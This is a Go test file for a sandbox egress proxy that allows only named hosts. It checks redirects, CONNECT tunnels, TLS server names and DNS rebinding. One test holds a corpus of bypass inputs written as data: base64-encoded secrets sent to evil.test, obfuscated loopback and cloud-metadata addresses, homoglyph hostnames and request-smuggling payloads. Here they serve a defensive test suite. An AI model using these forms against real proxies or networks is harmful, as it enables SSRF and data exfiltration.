package egress_test

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"go.uber.org/goleak"

	"fika/internal/sandbox/egress"
	"fika/internal/system/address"
)

// TestMain leaves out what waits for half a second after the last connection.
func TestMain(m *testing.M) {
	goleak.VerifyTestMain(m, goleak.IgnoreAnyFunction("net/http.(*conn).closeWriteAndWait"))
}

// world is a proxy, with a plain and a TLS server behind it.
type world struct {
	proxy       *url.URL
	plain, safe *httptest.Server
	end         func() egress.Traffic
}

// names is a name server on which every name but "gone.test" is this machine.
func names(_ context.Context, _, host string) ([]netip.Addr, error) {
	if host == "gone.test" {
		return nil, errors.New("no such host")
	}
	return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
}

func start(t *testing.T, hosts ...string) *world {
	t.Helper()
	w := &world{}
	answer := func(rw http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/away":
			http.Redirect(rw, r, "http://other.test/", http.StatusFound)
		case "/headers":
			fmt.Fprint(rw, r.Host, r.Header.Get("Proxy-Authorization"), r.Header.Get("X-Forwarded-For"))
		default:
			fmt.Fprint(rw, "hello from ", r.Host)
		}
	}
	w.plain = httptest.NewServer(http.HandlerFunc(answer))
	w.safe = httptest.NewUnstartedServer(http.HandlerFunc(answer))
	w.safe.Config.ErrorLog = log.New(io.Discard, "", 0)
	w.safe.StartTLS()
	t.Cleanup(w.plain.Close)
	t.Cleanup(w.safe.Close)
	p := &egress.Proxy{Lookup: names}
	for _, text := range hosts {
		text = strings.NewReplacer("PLAIN", w.plain.Listener.Addr().String(), "SAFE", w.safe.Listener.Addr().String()).Replace(text)
		h, err := address.ParseHost(text)
		if err != nil {
			t.Fatal(err)
		}
		p.Hosts = append(p.Hosts, h)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	w.proxy = &url.URL{Scheme: "http", Host: l.Addr().String()}
	w.end = p.Serve(l)
	return w
}

func (w *world) get(t *testing.T, url string) string {
	t.Helper()
	tr := &http.Transport{Proxy: http.ProxyURL(w.proxy), TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}
	defer tr.CloseIdleConnections()
	resp, err := (&http.Client{Transport: tr}).Get(url)
	if err != nil {
		return "error: " + err.Error()
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		return "error: " + err.Error()
	}
	return fmt.Sprint(resp.StatusCode, " ", strings.TrimSpace(string(body)))
}

func TestOnlyNamedHostsAreReached(t *testing.T) {
	w := start(t, "safe.test=SAFE", "plain.test:80=PLAIN", "*.wide.test=SAFE", "home.test", "home.test:80", "gone.test:80=private", "127.0.0.1:9")
	for url, want := range map[string]string{
		"http://plain.test/":             "200 hello from plain.test",
		"http://PLAIN.test./":            "200 hello from PLAIN.test.",
		"http://plain.test/headers":      "200 plain.test",
		"http://plain.test/away":         "403 refused: other.test:80",
		"http://plain.test:8080/":        "403 refused: plain.test:8080",
		"http://other.test/":             "403 refused: other.test:80",
		"http://plain.test.evil.test/":   "403 refused",
		"http://127.0.0.1/":              "403 refused",
		"http://[::ffff:7f00:1]/":        "403 refused",
		"http://2130706433/":             "403 refused",
		"http://0x7f.1/":                 "403 refused",
		"http://home.test/":              "403 refused: home.test:80: home.test is 127.0.0.1, which is not a public address",
		"http://gone.test/":              "502 gone.test:80 cannot be reached",
		"https://safe.test/":             "200 hello from safe.test",
		"https://a.wide.test/":           "200 hello from a.wide.test",
		"https://wide.test/":             "error: ", // 403 before the handshake
		"https://safe.test:22/":          "error: ",
		"https://home.test/":             "error: ",
		"https://127.0.0.1/":             "error: ",
		"https://safe.test@other.test/":  "error: ",
		"http://plain.test@other.test/x": "403 refused: other.test:80",
	} {
		if got := w.get(t, url); !strings.HasPrefix(got, want) {
			t.Errorf("%s: %s", url, got)
		}
	}
	got := w.end()
	for _, reached := range got.Reached {
		if host, _, _ := net.SplitHostPort(reached); !strings.Contains("plain.test. safe.test a.wide.test", strings.ToLower(host)) {
			t.Errorf("%s was reached", reached)
		}
	}
	if len(got.Reached) < 3 || len(got.Refused) < 8 {
		t.Errorf("got %+v", got)
	}
	if got := w.get(t, "http://plain.test/"); !strings.HasPrefix(got, "error: ") {
		t.Errorf("after the end: %s", got)
	}
}

// say sends a request to the proxy and, once that is answered, something behind it. It
// returns what comes back until either side ends.
func (w *world) say(t *testing.T, request, behind string) string {
	t.Helper()
	conn, err := net.Dial("tcp", w.proxy.Host)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if _, err := io.WriteString(conn, request); err != nil {
		t.Fatal(err)
	}
	first := make([]byte, 1024)
	n, _ := conn.Read(first)
	_, _ = io.WriteString(conn, behind) // the proxy may have closed it
	_ = conn.(*net.TCPConn).CloseWrite()
	all, _ := io.ReadAll(conn)
	return string(first[:n]) + string(all)
}

func TestTunnelsHoldTLSForTheirHostAlone(t *testing.T) {
	w := start(t, "safe.test=SAFE", "127.0.0.1:7=SAFE")
	const connect = "CONNECT safe.test:443 HTTP/1.1\r\nHost: safe.test\r\n\r\n"
	for name, behind := range map[string]string{
		"ssh":    "SSH-2.0-OpenSSH_9.2\r\n",
		"http":   "GET / HTTP/1.1\r\nHost: safe.test\r\n\r\n",
		"silent": "",
		"half":   "\x16\x03\x01\x00\xf0\x01\x00",
	} {
		got := w.say(t, connect, behind)
		if !strings.HasPrefix(got, "HTTP/1.1 200 ") || strings.Contains(got, "hello from") || strings.Count(got, "HTTP/") > 1 {
			t.Errorf("%s: %q", name, got)
		}
	}
	for name, request := range map[string]string{
		"relative":     "GET / HTTP/1.1\r\nHost: safe.test\r\n\r\n",
		"scheme":       "GET ftp://safe.test/ HTTP/1.1\r\nHost: safe.test\r\n\r\n",
		"https inside": "GET https://safe.test/ HTTP/1.1\r\nHost: safe.test\r\n\r\n",
		"upgrade":      "GET http://safe.test:443/ HTTP/1.1\r\nHost: safe.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
		"no port":      "CONNECT safe.test HTTP/1.1\r\nHost: safe.test\r\n\r\n",
		"other":        "CONNECT other.test:443 HTTP/1.1\r\nHost: safe.test:443\r\n\r\n",
		"big":          "GET http://safe.test/ HTTP/1.1\r\nX: " + strings.Repeat("x", 1<<20) + "\r\n\r\n",
		"garbage":      "\x00\x01\x02\r\n\r\n",
	} {
		got := w.say(t, request, "")
		if strings.HasPrefix(got, "HTTP/1.1 2") || strings.Contains(got, "hello from") {
			t.Errorf("%s: %q", name, got)
		}
	}
	// TLS, but for another host behind the same address.
	for sni, want := range map[string]bool{"safe.test": true, "SAFE.test": true, "other.test": false, "": false} {
		if got := w.handshake(t, "safe.test:443", sni); (got == nil) != want {
			t.Errorf("for %q: %v", sni, got)
		}
	}
	if err := w.handshake(t, "127.0.0.1:7", ""); err != nil {
		t.Errorf("an address has no name: %v", err)
	}
	got := w.end()
	if diff := cmp.Diff([]string{"safe.test:443", "127.0.0.1:7"}, got.Reached); diff != "" {
		t.Error(diff)
	}
	if len(got.Refused) < 4 {
		t.Errorf("refused %q", got.Refused)
	}
}

// handshake makes a tunnel and a TLS connection in it.
func (w *world) handshake(t *testing.T, to, sni string) error {
	t.Helper()
	conn, err := net.Dial("tcp", w.proxy.Host)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprintf(conn, "CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n", to, to)
	resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil || resp.StatusCode != http.StatusOK {
		return fmt.Errorf("no tunnel: %v, %w", resp, err)
	}
	return tls.Client(conn, &tls.Config{ServerName: sni, InsecureSkipVerify: true}).HandshakeContext(t.Context())
}

// A tunnel that is open ends with the proxy.
func TestEndClosesWhatIsOpen(t *testing.T) {
	w := start(t, "safe.test=SAFE")
	conn, err := net.Dial("tcp", w.proxy.Host)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	fmt.Fprint(conn, "CONNECT safe.test:443 HTTP/1.1\r\nHost: safe.test:443\r\n\r\n")
	if _, err := http.ReadResponse(bufio.NewReader(conn), nil); err != nil {
		t.Fatal(err)
	}
	over := tls.Client(conn, &tls.Config{ServerName: "safe.test", InsecureSkipVerify: true})
	if err := over.HandshakeContext(t.Context()); err != nil {
		t.Fatal(err)
	}
	w.end()
	if _, err := over.Read(make([]byte, 1)); err == nil {
		t.Error("the tunnel is open after the end")
	}
}

// TestNothingLeavesByOtherForms is a corpus of ways to carry something out past the names
// that are allowed: none is answered by anything behind the proxy, and no name server is
// asked about a name that is not allowed.
func TestNothingLeavesByOtherForms(t *testing.T) {
	w := start(t, "safe.test=SAFE", "plain.test:80=PLAIN", "rebound.test", "rebound.test:80")
	for _, host := range []string{
		"c2VjcmV0.evil.test", "c2VjcmV0.safe.test", strings.Repeat("a", 60) + ".safe.test", "safe.test.evil.test", "safe.test%00.evil.test", "safe%2etest", "ѕafe.test", "xn--afe-0cd.test",
		"127.0.0.1", "127.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "0177.0.0.1", "017700000001", "0", "0.0.0.0", "localhost", "localhost.localdomain",
		"[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[0:0:0:0:0:ffff:127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[fe80::1]", "[fd00::1]", "[::1%25lo]",
		"10.0.0.1", "172.16.0.1", "192.168.0.1", "169.254.169.254", "100.64.0.1", "metadata.google.internal", "rebound.test",
	} {
		for _, request := range []string{
			"CONNECT " + host + ":443 HTTP/1.1\r\nHost: safe.test:443\r\n\r\n",
			"CONNECT " + host + ":22 HTTP/1.1\r\nHost: safe.test:443\r\n\r\n",
			"GET http://" + host + "/?c2VjcmV0 HTTP/1.1\r\nHost: plain.test\r\n\r\n",
			"GET http://plain.test:80@" + host + "/ HTTP/1.1\r\nHost: plain.test\r\n\r\n",
			"POST http://" + host + ":25/ HTTP/1.1\r\nHost: plain.test\r\nContent-Length: 6\r\n\r\nsecret",
		} {
			if got := w.say(t, request, "SSH-2.0-x\r\n"); strings.HasPrefix(got, "HTTP/1.1 2") || strings.Contains(got, "hello from") {
				t.Errorf("%q: %q", request, got)
			}
		}
	}
	for name, request := range map[string]string{
		"the ssh port of an allowed host":   "CONNECT safe.test:22 HTTP/1.1\r\nHost: safe.test:22\r\n\r\n",
		"the plain port in a tunnel":        "CONNECT plain.test:80 HTTP/1.1\r\nHost: plain.test\r\n\r\n",
		"a second request after an allowed": "GET http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\n\r\nGET http://evil.test/?c2VjcmV0 HTTP/1.1\r\nHost: plain.test\r\n\r\n",
		"a request hidden in a body":        "POST http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
		"the host of the header":            "GET http://plain.test/headers HTTP/1.1\r\nHost: evil.test\r\n\r\n",
	} {
		got := w.say(t, request, "SSH-2.0-x\r\n")
		if strings.Contains(got, "from evil.test") || strings.Contains(got, "200 evil.test") || strings.Contains(got, "SSH") || strings.Count(got, "hello from") > 1 {
			t.Errorf("%s: %q", name, got)
		}
	}
	for _, reached := range w.end().Reached {
		if reached != "plain.test:80" && reached != "safe.test:443" {
			t.Errorf("%s was reached", reached)
		}
	}
}

// TestAReboundNameIsNotReached: the address that was checked is the one that is dialled, and
// a name with a private address beside a public one leads to neither of the private ones.
func TestAReboundNameIsNotReached(t *testing.T) {
	for _, private := range []string{"127.0.0.1", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1", "0.0.0.0", "::1", "fd00::1", "fe80::1", "::ffff:10.0.0.1", "64:ff9b::a00:1", "2002:a00:1::"} {
		var asked []string
		p := &egress.Proxy{Lookup: func(_ context.Context, _, host string) ([]netip.Addr, error) {
			asked = append(asked, host)
			return []netip.Addr{netip.MustParseAddr(private)}, nil
		}}
		h, err := address.ParseHost("rebound.test:80")
		if err != nil {
			t.Fatal(err)
		}
		p.Hosts = []address.Host{h}
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		w := &world{proxy: &url.URL{Scheme: "http", Host: l.Addr().String()}, end: p.Serve(l)}
		for _, to := range []string{"http://rebound.test/", "http://c2VjcmV0.rebound.test/", "http://c2VjcmV0.evil.test/"} {
			if got := w.get(t, to); !strings.HasPrefix(got, "403 refused") {
				t.Errorf("%s at %s: %s", to, private, got)
			}
		}
		if got := w.end(); len(got.Reached) > 0 || !strings.Contains(got.Refused[0], "(rebound.test is ") || len(asked) != 1 || asked[0] != "rebound.test" {
			t.Errorf("%s: %+v; names were looked up: %q", private, got, asked)
		}
	}
}
